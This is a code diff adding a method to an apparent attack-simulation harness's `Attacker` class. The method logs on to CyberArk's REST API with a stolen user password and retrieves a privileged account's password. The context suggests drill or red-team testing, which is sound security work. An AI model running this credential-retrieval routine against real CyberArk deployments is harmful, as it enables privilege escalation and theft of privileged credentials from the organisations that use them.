@@ -92,6 +92,17 @@ class Attacker:
     def _cyberark_session(self) -> bool:
         return self._ok("GET", f"{self.world.cyberark.url}/psm/{self.person.held['cyberark session']}")
 
+    def checks_out(self) -> str:
+        """Log on to CyberArk with the stolen password and take the privileged one out; that password, "" when refused."""
+        root = self.world.cyberark.url
+        body = {"username": self.person.name, "password": self.person.password, "concurrentSession": True}
+        logon = self._send("POST", f"{root}/API/auth/cyberark/Logon", json=body)
+        if logon is None or logon.status_code != 200:
+            return ""
+        url = f"{root}/API/Accounts/{self.person.held['cyberark account']}/Password/Retrieve"
+        taken = self._send("POST", url, headers={"Authorization": str(logon.json())}, json={"reason": "drill"})
+        return str(taken.json()) if taken is not None and taken.status_code == 200 else ""
+
     def _cyberark_password(self) -> bool:
         url = f"{self.world.cyberark.url}/target/{self.person.held['cyberark account']}/login"
         return self._ok("POST", url, json={"password": self.person.held["cyberark password"]})
